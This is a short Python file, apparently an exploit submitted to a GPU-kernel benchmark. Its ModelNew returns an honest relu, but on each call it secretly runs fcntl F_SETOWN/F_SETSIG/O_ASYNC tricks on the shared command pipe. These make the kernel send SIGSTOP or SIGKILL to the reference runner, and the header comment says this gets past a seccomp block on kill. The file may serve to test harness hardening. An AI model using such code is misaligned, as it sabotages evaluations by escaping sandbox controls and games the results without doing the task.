# EXPLOIT (hostile to the other side, torch CPU): an honest relu that
# turns the command pipe it shares with its zygote into a signal gun
# aimed at the reference's runner.  fcntl(F_SETOWN) on fd 0 names another
# process (the pid is found with F_SETOWN itself, which answers ESRCH for
# a pid that does not exist), F_SETSIG picks the signal, O_ASYNC arms it:
# from then on, every command the eval writes to the candidate's zygote
# (ARM, RUN) makes the kernel send that signal to the target, with the
# candidate's credentials (nobody, the same uid as the reference's
# runner, so the SIGIO permission check passes).  The F_SETOWN/F_SETSIG/
# O_ASYNC state lives on the zygote's open file description: it outlives
# the call process.  seccomp's EPERM on kill/tkill is bypassed.
# SIG: 19 = SIGSTOP (default), 9 = SIGKILL.  TARGET: "below" = the
# highest existing pid below our zygote's (the reference's zygote on a
# quiet machine), or a number.
import os, fcntl, torch, torch.nn as nn

SIG = int(globals().get("SIG", 19))
TARGET = globals().get("TARGET", "below")


def _arm():
    if fcntl.fcntl(0, fcntl.F_GETFL) & 0o20000:      # O_ASYNC: done already
        return
    pp = os.getppid()
    if TARGET == "below":
        t = None
        for p in range(pp - 1, max(2, pp - 2000), -1):
            try:
                fcntl.fcntl(0, fcntl.F_SETOWN, p)
                t = p
                break
            except OSError:
                pass
        if t is None:
            return
    else:
        t = int(TARGET)
        fcntl.fcntl(0, fcntl.F_SETOWN, t)
    fcntl.fcntl(0, 10, SIG)                            # F_SETSIG
    fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | 0o20000)


class ModelNew(nn.Module):
    def forward(self, x):
        try:
            _arm()
        except OSError:
            pass
        return torch.relu(x)
